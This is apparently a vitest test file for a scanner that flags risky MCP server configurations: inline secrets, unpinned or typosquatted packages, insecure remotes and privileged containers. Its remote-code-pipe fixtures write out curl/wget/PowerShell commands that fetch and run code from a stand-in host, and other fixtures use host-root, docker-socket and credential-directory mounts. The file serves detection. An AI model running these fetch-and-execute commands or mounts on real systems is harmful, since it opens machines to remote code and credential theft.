// The config rules on small configs: what fires, at which severity and on which line, and what must
// stay quiet (references, placeholders, pinned packages, loopback, harmless container options).
import {describe, expect, it} from 'vitest'
import type {Finding} from '../../src/core/finding.js'
import {check, doc, mcpJson, runOn} from './helpers.js'

const sev = (fs: Finding[]) => fs.map((f) => f.severity)
const lines = (fs: Finding[]) => fs.map((f) => f.location.line)

describe('inline-secret', () => {
  const run = (entry: Record<string, unknown>) => check('inline-secret', mcpJson(entry))
  const gh = 'ghp_' + 'Ab1Cd2Ef3Gh4Ij5Kl6Mn7Op8Qr9St0Uv1Wx2Y'

  it('rates a known token format critical and points at the env value', () => {
    const fs = check('inline-secret', `{\n  "mcpServers": {\n    "gh": {\n      "command": "npx",\n      "env": {\n        "GITHUB_TOKEN": "${gh}"\n      }\n    }\n  }\n}\n`)
    expect(fs).toHaveLength(1)
    expect(fs[0]).toMatchObject({severity: 'critical', confidence: 'high', message: 'env "GITHUB_TOKEN" of server "gh" holds a GitHub token written inline', evidence: 'GITHUB_TOKEN=ghp_****'})
    expect(fs[0].location).toMatchObject({line: 6, pointer: '/mcpServers/gh/env/GITHUB_TOKEN', server: 'gh', kind: 'config'})
  })

  it('finds generic secrets by name: env, flags, headers, query parameters, URL passwords', () => {
    const high = 'q8Zr3LmX0vT5nB2wK9pD4sF7'
    const fs = run({
      command: 'node',
      args: ['s.js', `--api-key=${high}`, '--token', high, '-e', `DB_PASSWORD=${high}`, '--header', `X-Api-Key: ${high}`],
      env: {SERVICE_SECRET: high},
      url: `https://h.example.com/mcp?key=${high}`,
      headers: {Authorization: `Basic ${Buffer.from('ada:hunter2!x').toString('base64')}`},
    })
    expect(fs.map((f) => f.location.pointer).sort()).toEqual(
      ['/mcpServers/s/args/1', '/mcpServers/s/args/3', '/mcpServers/s/args/5', '/mcpServers/s/args/7', '/mcpServers/s/env/SERVICE_SECRET', '/mcpServers/s/headers/Authorization', '/mcpServers/s/url'].sort(),
    )
    expect(new Set(sev(fs))).toEqual(new Set(['high']))
    for (const f of fs) {
      expect(f.evidence).not.toContain(high)
      expect(f.message).not.toContain(high)
    }
    expect(fs.find((f) => f.location.pointer.endsWith('args/3'))!.evidence).toBe('--token q8Zr****')
  })

  it('finds credentials in URLs of env values and arguments', () => {
    const fs = run({command: 'uvx', args: ['pg-mcp==1.0', 'postgresql://ada:S3cret-pass@db/x'], env: {DATABASE_URL: 'mysql://root:0therSecret@db:3306/app'}})
    expect(fs.map((f) => f.evidence)).toEqual(['postgresql://ada:****@db/x', 'DATABASE_URL=mysql://root:****@db:3306/app'])
  })

  it('does not report references, placeholders or values that are not secrets', () => {
    const fs = run({
      command: 'node',
      args: ['--api-key=${KEY}', '--token', '$TOKEN', '--password', '${env:PW}', '--secret', '${input:s}', '--token-file', '/run/secrets/t'],
      env: {
        A_TOKEN: '${A_TOKEN:-}',
        B_TOKEN: '${{ secrets.B_TOKEN }}',
        C_API_KEY: '<your-api-key>',
        D_API_KEY: 'YOUR_API_KEY',
        E_PASSWORD: 'changeme',
        F_TOKEN: 'xxx',
        G_SECRET: '...',
        H_KEY: 'sk-...',
        MAX_TOKENS: '8192',
        TOKEN_URL: 'https://auth.example.com/token',
        SECRET_NAME: 'prod/db',
        PASSWORD_FILE: '/run/secrets/pw',
        GITHUB_TOKEN_VAR: 'GITHUB_TOKEN',
        SOME_SETTING: 'Zq8r3LmX0vT5nB2wK9pD4sF7',
        ENABLED_AUTH: 'true',
        PUBLISHABLE_KEY: 'pk_live_aaaaaaaaaaaaaaaaaaaaaaaa',
      },
      headers: {Authorization: 'Bearer ${TOKEN}', 'X-Api-Key': '${env:KEY}'},
      url: 'https://h.example.com/mcp?api_key=${KEY}',
    })
    expect(fs).toEqual([])
  })

  it('rates a sample token low and a test-mode key high', () => {
    const fs = run({command: 'x', env: {AWS_ACCESS_KEY_ID: 'AKIAIOSFODNN7EXAMPLE', GITHUB_TOKEN: 'ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx', STRIPE_KEY: 'sk_test_4eC39HqLyjWDarjtT1zdp7dc'}})
    expect(fs.map((f) => `${f.location.pointer.split('/').pop()}:${f.severity}`).sort()).toEqual(['AWS_ACCESS_KEY_ID:low', 'GITHUB_TOKEN:low', 'STRIPE_KEY:high'])
    expect(fs.find((f) => f.severity === 'low')!.message).toMatch(/what looks like a sample/)
  })

  it('rates a weak password medium, not high', () => {
    const fs = run({command: 'x', env: {POSTGRES_PASSWORD: 'postgres'}})
    expect(fs.map((f) => [f.severity, f.confidence])).toEqual([['medium', 'low']])
  })

  it('reads other fields of the entry (Zed settings, Codex bearer_token) and one-string commands', () => {
    const zed = runOn(doc('.zed/settings.json', JSON.stringify({context_servers: {gh: {command: 'gh-mcp', settings: {github_personal_access_token: gh}}}})), 'inline-secret')
    expect(zed[0]).toMatchObject({severity: 'critical', location: {pointer: '/context_servers/gh/settings/github_personal_access_token'}})
    const one = run({command: `npx -y server@1.0.0 --token ${gh}`})
    expect(one.map((f) => f.location.pointer)).toEqual(['/mcpServers/s/command'])
    expect(one[0].evidence).toBe('--token ghp_****')
    const script = run({command: 'sh', args: ['-c', `GITHUB_TOKEN=${gh} exec node s.js`]})
    expect(script.map((f) => f.severity)).toEqual(['critical'])
    expect(script[0].evidence).not.toContain(gh.slice(4, 12))
  })

  it('points at the exact line in YAML and TOML', () => {
    const y = runOn(doc('config.yaml', `mcpServers:\n  - name: a\n    command: npx\n    env:\n      A_TOKEN: ${gh}\n`), 'inline-secret')
    expect(lines(y)).toEqual([5])
    const t = runOn(doc('config.toml', `[mcp_servers.a]\ncommand = "npx"\nargs = [\n  "-y",\n  "--api-key",\n  "${gh}",\n]\n`), 'inline-secret')
    expect(lines(t)).toEqual([6])
  })
})

describe('unpinned-package', () => {
  const run = (command: string, args: string[] = []) => check('unpinned-package', mcpJson({command, args}))

  it('reports each way of not pinning, on the spec\'s line', () => {
    expect(run('npx', ['-y', 'pkg'])[0]).toMatchObject({severity: 'medium', message: 'npx runs npm package "pkg" with no version in server "s": each launch may run a different release; -y installs it without asking', location: {pointer: '/mcpServers/s/args/1'}})
    expect(run('npx', ['pkg@latest'])[0].message).toMatch(/at "latest"/)
    expect(run('npx', ['pkg@^1.2.0'])[0].message).toMatch(/version range "\^1.2.0"/)
    expect(run('npx', ['pkg@next'])[0].message).toMatch(/dist-tag "next"/)
    expect(run('npx', ['github:org/pkg'])[0].message).toMatch(/from git at its default branch/)
    expect(run('uvx', ['mcp-server-fetch'])[0].severity).toBe('medium')
    expect(run('uvx', ['mcp-server-fetch@latest'])[0].message).toMatch(/at "latest"/)
    expect(run('pipx', ['run', 'pkg>=1'])[0].message).toMatch(/range ">=1"/)
    expect(run('docker', ['run', '-i', 'mcp/fetch'])[0]).toMatchObject({severity: 'medium', location: {pointer: '/mcpServers/s/args/2'}})
    expect(run('docker', ['run', 'mcp/fetch:latest'])[0].severity).toBe('medium')
    expect(run('docker', ['run', 'mcp/fetch:1.0'])[0].severity).toBe('low')
    expect(run('cmd', ['/c', 'npx', '-y', 'pkg'])[0].location.pointer).toBe('/mcpServers/s/args/3')
  })

  it('leaves pinned packages, local paths and plain programs alone', () => {
    for (const [c, a] of [
      ['npx', ['-y', 'pkg@1.2.3']],
      ['npx', ['github:org/pkg#4f6b8d0a2c4e6a8c0e2b4d6f8a0c2e4b6d8f0a2c']],
      ['uvx', ['pkg==1.0.0']],
      ['uvx', ['pkg@1.0.0']],
      ['docker', ['run', `img@sha256:${'a'.repeat(64)}`]],
      ['docker', ['run', `img:1.0@sha256:${'a'.repeat(64)}`]],
      ['npx', ['./local-server']],
      ['node', ['server.js']],
      ['python', ['-m', 'server']],
      ['docker', ['ps']],
    ] as Array<[string, string[]]>) {
      expect(run(c, a), `${c} ${a.join(' ')}`).toEqual([])
    }
  })
})

describe('package-typosquat', () => {
  it('reports look-alikes with the official name, high', () => {
    const fs = check('package-typosquat', mcpJson({command: 'npx', args: ['-y', '@modelcontextprotocoI/server-github@1.0.0']}))
    expect(fs[0]).toMatchObject({severity: 'high', confidence: 'high', message: 'package "@modelcontextprotocoI/server-github" in server "s" looks like "@modelcontextprotocol/server-github": it uses look-alike characters', location: {pointer: '/mcpServers/s/args/1'}})
  })

  it('stays quiet on the official packages', () => {
    expect(check('package-typosquat', mcpJson({command: 'npx', args: ['-y', '@modelcontextprotocol/server-github@1.0.0']}))).toEqual([])
  })
})

describe('remote-code-pipe', () => {
  const run = (command: string, args: string[] = []) => check('remote-code-pipe', mcpJson({command, args}))
  const bad: Array<[string, string[]]> = [
    ['bash', ['-c', 'curl -fsSL https://x.example.com/i.sh | bash']],
    ['sh', ['-c', 'wget -qO- https://x.example.com/i | sudo -E sh -s -- --yes']],
    ['bash', ['-c', 'bash <(curl -s https://x.example.com/i.sh)']],
    ['sh', ['-c', 'eval "$(curl -fsSL https://x.example.com/env)"']],
    ['python3', ['-c', '$(curl -s https://x.example.com/p.py)']],
    ['python3', ['-c', 'import urllib.request as u; exec(u.urlopen("https://x.example.com/p.py").read())']],
    ['pwsh', ['-Command', 'irm https://x.example.com/i.ps1 | iex']],
    ['powershell', ['-EncodedCommand', Buffer.from('iex (iwr https://x.example.com/i.ps1)', 'utf16le').toString('base64')]],
    ['cmd', ['/c', 'curl', '-s', 'https://x.example.com/i.sh', '|', 'sh']],
    ['curl -fsSL https://x.example.com/i.sh | sh', []],
    ['sh', ['-c', 'wget https://x.example.com/run.sh && chmod +x run.sh && ./run.sh']],
  ]
  it.each(bad)('fires on %s %j', (command, args) => {
    const fs = run(command, args)
    expect(sev(fs)).toEqual(['critical'])
  })

  const good: Array<[string, string[]]> = [
    ['bash', ['-c', 'npx -y pkg@1.0.0']],
    ['sh', ['-c', 'curl -s https://x.example.com/data.json | jq .name']],
    ['sh', ['-c', 'curl -s https://x.example.com/data.json | python3 -m json.tool']],
    ['sh', ['-c', 'export T=$(curl -s http://169.254.169.254/token) && node s.js']],
    ['sh', ['-c', 'curl -s https://x.example.com/health; node server.js']],
    ['node', ['server.js', '--docs', 'https://x.example.com/curl-guide']],
  ]
  it.each(good)('stays quiet on %s %j', (command, args) => {
    expect(run(command, args)).toEqual([])
  })
})

describe('insecure-remote', () => {
  const run = (entry: Record<string, unknown>) => check('insecure-remote', mcpJson(entry))
  it('is high with credentials, medium without', () => {
    expect(run({type: 'http', url: 'http://mcp.example.com/mcp', headers: {Authorization: 'Bearer ${T}'}})[0]).toMatchObject({severity: 'high', location: {pointer: '/mcpServers/s/url'}})
    expect(run({url: 'http://u:p@mcp.example.com/mcp'})[0].severity).toBe('high')
    expect(run({url: 'http://mcp.example.com/mcp?token=${T}'})[0].severity).toBe('high')
    expect(run({url: 'http://mcp.example.com/sse'})[0].severity).toBe('medium')
    expect(run({url: 'http://10.0.0.5:8080/mcp'})[0].severity).toBe('medium')
    const b = run({command: 'npx', args: ['mcp-remote@0.1.29', 'http://mcp.example.com/sse', '--header', 'Authorization: Bearer ${T}']})
    expect(b[0]).toMatchObject({severity: 'high', location: {pointer: '/mcpServers/s/args/1'}})
  })

  it('accepts https and loopback', () => {
    for (const url of ['https://mcp.example.com/mcp', 'http://localhost:3000/mcp', 'http://127.0.0.1/sse', 'http://127.1.2.3:9/mcp', 'http://[::1]:8080/mcp', 'http://api.localhost/mcp', '${URL}']) {
      expect(run({type: 'http', url, headers: {Authorization: 'Bearer ${T}'}}), url).toEqual([])
    }
  })
})

describe('privileged-container', () => {
  const run = (args: string[], command = 'docker') => check('privileged-container', mcpJson({command, args}))
  const img = `img@sha256:${'a'.repeat(64)}`
  it('reports host privileges and mounts, each on its own argument', () => {
    const fs = run(['run', '--privileged', '--pid=host', '--network', 'host', '--ipc=host', '--cap-add=SYS_ADMIN', '--cap-add', 'NET_ADMIN', '--security-opt', 'apparmor=unconfined', '--device=/dev/kvm', '-v', '/:/host:ro', '-v', '/var/run/docker.sock:/var/run/docker.sock', '-v', '$HOME:/h', '--mount', 'type=bind,source=/etc,target=/etc', '-v', '/home/ada/.aws:/root/.aws', img])
    const by = Object.fromEntries(fs.map((f) => [f.location.pointer.split('/').pop(), f.severity]))
    expect(by).toEqual({'1': 'high', '2': 'high', '4': 'high', '5': 'high', '6': 'high', '8': 'medium', '10': 'high', '11': 'high', '13': 'critical', '15': 'critical', '17': 'high', '19': 'high', '21': 'high'})
  })

  it('reads podman, wrappers and short option groups', () => {
    expect(sev(run(['run', '-itv', '/:/host', img], 'podman'))).toEqual(['critical'])
    expect(sev(check('privileged-container', mcpJson({command: 'sh', args: ['-c', `docker run --privileged ${img}`]})))).toEqual(['high'])
  })

  it('accepts ordinary container options', () => {
    expect(run(['run', '-i', '--rm', '--read-only', '--cap-drop=ALL', '--cap-add=NET_BIND_SERVICE', '--network=none', '--security-opt=no-new-privileges', '-v', '/srv/data:/data:ro', '-v', 'named-volume:/cache', '-v', '${workspaceFolder}:/ws', '-e', 'HOME=/tmp', img])).toEqual([])
    expect(run(['ps', '--privileged'])).toEqual([])
  })
})

describe('inline-secret on development URLs', () => {
  it('rates a weak or local database password medium, a strong remote one high', () => {
    const run = (url: string) => check('inline-secret', mcpJson({command: 'x', env: {DATABASE_URL: url}})).map((f) => f.severity)
    expect(run('postgresql://postgres:postgres@localhost:5432/app')).toEqual(['medium'])
    expect(run('postgresql://app:q8Zr3LmX0vT5nB2wK9pD4sF7@localhost/app')).toEqual(['medium'])
    expect(run('postgresql://app:q8Zr3LmX0vT5nB2wK9pD4sF7@db.example.com/app')).toEqual(['high'])
    expect(run('postgresql://user:password@localhost/app')).toEqual(['low'])
  })

  it('treats the container host names as local for insecure-remote', () => {
    expect(check('insecure-remote', mcpJson({url: 'http://host.docker.internal:3000/mcp', headers: {Authorization: 'Bearer ${T}'}}))).toEqual([])
  })
})

describe('inline-secret in Continue requestOptions', () => {
  it('reads headers once and the other request options too', () => {
    const text = 'mcpServers:\n  - name: r\n    type: sse\n    url: https://r.example.com/sse\n    requestOptions:\n      headers:\n        Authorization: Bearer q8Zr3LmX0vT5nB2wK9pD4sF7\n      proxy: http://ada:q8Zr3LmX0vT5nB2wK9pD4sF7@proxy.example.com:3128\n'
    const fs = runOn(doc('config.yaml', text), 'inline-secret')
    expect(fs.map((f) => `${f.location.line}:${f.severity}`)).toEqual(['7:high', '8:high'])
  })
})
